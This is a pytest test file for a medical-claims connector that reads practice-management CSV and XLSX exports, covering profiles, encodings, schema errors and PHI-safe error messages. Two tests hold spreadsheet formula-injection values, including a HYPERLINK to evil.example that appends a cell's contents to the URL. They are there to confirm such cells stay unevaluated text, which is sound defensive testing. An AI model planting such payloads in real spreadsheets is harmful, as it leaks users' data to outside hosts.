"""PM export reading: each profile on its fixture, encodings and delimiters, formula text, schema problems."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest

from connector.errors import ConfigError, PMExportError
from connector.pm.models import PMExport
from connector.pm.profile_parse import available_profiles, load_profile, parse_profile
from connector.pm.reader import ExportSchemaError, read_export

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "pm"


def fx(name: str) -> Path:
    return FIXTURES / name


def test_shipped_profiles_load() -> None:
    names = available_profiles()
    assert {"generic", "officeledger", "clinicsuite"} <= set(names)
    layouts = {load_profile(n).layout for n in names}
    assert layouts == {"line", "claim"}


@pytest.mark.parametrize("name", ["generic_sample.csv", "generic_sample.xlsx"])
def test_generic_export_reads_claims_and_lines(name: str) -> None:
    export = read_export(fx(name), "generic")
    assert export.profile == "generic" and export.row_count == 6 and export.line_count == 6
    assert export.sheet == ("Charges" if name.endswith("xlsx") else None)
    assert [c.claim_id for c in export.claims] == ["C1001", "C1002", "H2001", "C1003"]
    c1 = export.claims[0]
    assert c1.claim_type == "P" and c1.payer_id == "87726" and c1.billing.npi == "1234567893"
    assert c1.patient.dob == dt.date(1975, 3, 14) and c1.patient.member_id == "W100200300"
    assert c1.diagnosis_codes == ("E119", "I10")
    assert c1.total_charge == Decimal("205.00") and c1.lines_total == Decimal("205.00")
    first = c1.lines[0]
    assert (first.line_id, first.procedure_code, first.modifiers, first.diagnosis_pointers) == (
        "C1001-1",
        "99214",
        ("25",),
        (1, 2),
    )
    assert first.charge == Decimal("180") and first.expected_amount == Decimal("120")
    assert first.source_row == 2 and c1.lines[1].source_row == 3
    h = export.claims[2]
    assert h.claim_type == "I" and h.type_of_bill == "0131" and h.statement_from == dt.date(2026, 11, 6)
    assert [ln.revenue_code for ln in h.lines] == ["0450", "0301"]


def test_csv_and_xlsx_of_the_same_export_agree() -> None:
    a, b = read_export(fx("generic_sample.csv")), read_export(fx("generic_sample.xlsx"))
    assert a.claims == b.claims


def test_officeledger_us_dates_dollar_amounts_numbered_columns() -> None:
    for name in ("officeledger_sample.xlsx", "officeledger_sample.csv"):
        export = read_export(fx(name), "officeledger")
        assert [c.claim_id for c in export.claims] == ["E-5001", "E-5002"]
        c = export.claims[0]
        assert c.patient.dob == dt.date(1962, 7, 30) and c.patient.sex == "F"
        assert c.total_charge == Decimal("1290.00") and c.lines[0].charge == Decimal("1250.00")
        assert c.diagnosis_codes == ("I10", "E785")
        assert c.lines[0].diagnosis_pointers == (1, 2)  # letters A,B
        assert c.billing.npi == "1234567893"  # stored as a number in the XLSX: no ".0"
        assert c.billing.address.zip == "78701-1234"
        assert c.lines[0].place_of_service == "11"
        second = export.claims[1]
        assert second.lines[0].modifiers == ("26", "TC") and second.frequency_code == "7"


def test_officeledger_prefers_its_named_sheet_and_explicit_sheet_must_exist() -> None:
    assert read_export(fx("officeledger_sample.xlsx"), "officeledger").sheet == "Charge Detail"
    with pytest.raises(PMExportError, match="no sheet named 'Nope'"):
        read_export(fx("officeledger_sample.xlsx"), "officeledger", sheet="Nope")


def test_clinicsuite_claim_per_row_with_repeated_line_columns() -> None:
    export = read_export(fx("clinicsuite_sample.csv"), "clinicsuite")
    assert [c.claim_id for c in export.claims] == ["K-1", "K-2", "K-3"]
    assert export.row_count == 3 and export.line_count == 6
    k1 = export.claims[0]
    assert [ln.line_id for ln in k1.lines] == ["K-1-1", "K-1-2"]
    assert k1.lines[0].service_date == dt.date(2026, 11, 10) and k1.patient.dob == dt.date(1980, 2, 2)
    assert k1.lines[0].diagnosis_pointers == (1, 2) and k1.diagnosis_codes == ("E119", "I10")
    k3 = export.claims[2]
    assert k3.claim_type == "I" and k3.lines[0].revenue_code == "0450" and k3.lines[0].procedure_code == ""


def test_formula_looking_cells_are_text_in_csv() -> None:
    export = read_export(fx("formula_cells.csv"))  # UTF-16 with BOM
    assert export.claims[0].patient.last_name == '=HYPERLINK("http://evil.example/x?d="&A1,"Click")'
    assert export.claims[1].billing.name == "=1+2"
    assert export.claims[2].payer_name == "@SUM(1,1)"


def test_formula_cells_in_xlsx_come_back_as_formula_text_never_evaluated() -> None:
    export = read_export(fx("formula_cells.xlsx"))
    assert export.claims[0].patient.last_name == '=HYPERLINK("http://evil.example/x","Click")'
    assert export.claims[1].billing.name == "=1+2"  # not 3


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("bad_missing_column.csv", ["bad_missing_column.csv, row 1: column for member_id is missing"]),
        ("bad_date.csv", ["bad_date.csv, row 4, column service_date: not a date in the format YYYY-MM-DD"]),
        ("bad_amount.csv", ["bad_amount.csv, row 3, column line_charge: '25,OO' is not an amount"]),
        ("bad_duplicate_line.csv", ["row 6, column line_id: line id 'H2001-1' duplicates row 5"]),
        (
            "bad_several.csv",
            [
                "row 3, column payer_id: differs from row 2 of the same claim",
                "row 5, column patient_dob: not a date in the format YYYY-MM-DD",
                "row 7, column units: 'one' is not a number",
            ],
        ),
        ("bad_header_only.csv", ["header but no data rows"]),
    ],
)
def test_schema_problems_name_file_row_column_and_import_nothing(name: str, expected: list[str]) -> None:
    with pytest.raises(ExportSchemaError) as info:
        read_export(fx(name))
    problems = [str(p) for p in info.value.problems]
    assert len(problems) == len(expected)
    for text, want in zip(problems, expected, strict=True):
        assert want in text
    assert "nothing imported" in str(info.value)


def test_phi_never_echoed_in_problems() -> None:
    with pytest.raises(ExportSchemaError) as info:
        read_export(fx("bad_several.csv"))
    assert "14/03/1975" not in str(info.value)
    with pytest.raises(ExportSchemaError) as info:
        read_export(fx("bad_date.csv"))
    assert "2026-13-05" not in str(info.value)


def test_unreadable_files_raise_pm_export_error(tmp_path: Path) -> None:
    with pytest.raises(PMExportError, match="empty"):
        read_export(fx("bad_empty.csv"))
    with pytest.raises(PMExportError, match="not found"):
        read_export(tmp_path / "missing.csv")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(PMExportError, match="not a readable XLSX"):
        read_export(broken)


def test_semicolon_cp1252_and_blank_lines(tmp_path: Path) -> None:
    with fx("generic_sample.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    rows[1][rows[0].index("patient_last_name")] = rows[2][rows[0].index("patient_last_name")] = "RIVÉRA"
    rows.insert(2, [])
    path = tmp_path / "semi.csv"
    with path.open("w", encoding="cp1252", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    export: PMExport = read_export(path)
    assert export.claims[0].patient.last_name == "RIVÉRA"
    assert export.line_count == 6 and export.claims[0].lines[1].source_row == 4


def test_bad_profiles_are_config_errors() -> None:
    with pytest.raises(ConfigError, match=r"required fields not mapped: .*member_id"):
        parse_profile({"columns": {"claim_id": ["a"]}}, "x.yaml")
    with pytest.raises(ConfigError, match="not a canonical field"):
        parse_profile({"columns": {"shoe_size": ["a"]}}, "x.yaml")
    with pytest.raises(ConfigError, match="not found"):
        load_profile("no-such-profile")


def test_xlsx_with_real_date_and_number_cells(tmp_path: Path) -> None:
    import openpyxl

    with fx("generic_sample.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Export"
    sheet.append(header)
    dates = {"patient_dob", "service_date", "statement_from", "statement_to", "submitted_date"}
    numbers = {
        "units",
        "line_charge",
        "claim_total_charge",
        "expected_amount",
        "place_of_service",
        "revenue_code",
    }
    for row in rows[1:]:
        typed: list[object] = []
        for name, value in zip(header, row, strict=True):
            if value and name in dates:
                typed.append(dt.datetime.fromisoformat(value))
            elif value and name in numbers:
                typed.append(float(value))
            else:
                typed.append(value)
        sheet.append(typed)
    path = tmp_path / "typed.xlsx"
    book.save(path)
    export = read_export(path)
    assert export.sheet == "Export"  # the profile's "Charges" is absent: the first sheet is read
    assert export.claims == read_export(fx("generic_sample.csv")).claims  # 450.0 -> "0450", 11.0 -> "11"


def test_claim_per_row_tolerates_fewer_numbered_columns(tmp_path: Path) -> None:
    with fx("clinicsuite_sample.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    keep = [
        i for i, name in enumerate(rows[0]) if not name.endswith(("4", "5", "6")) or not name[-1].isdigit()
    ]
    path = tmp_path / "short.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([[r[i] for i in keep] for r in rows])
    export = read_export(path, "clinicsuite")
    assert export.claims == read_export(fx("clinicsuite_sample.csv"), "clinicsuite").claims


def test_wrong_profile_gets_a_hint() -> None:
    with pytest.raises(ExportSchemaError) as info:
        read_export(fx("clinicsuite_sample.csv"), "generic")
    first = str(info.value.problems[0])
    assert "most columns of profile 'generic' are missing" in first and "clinicsuite" in first
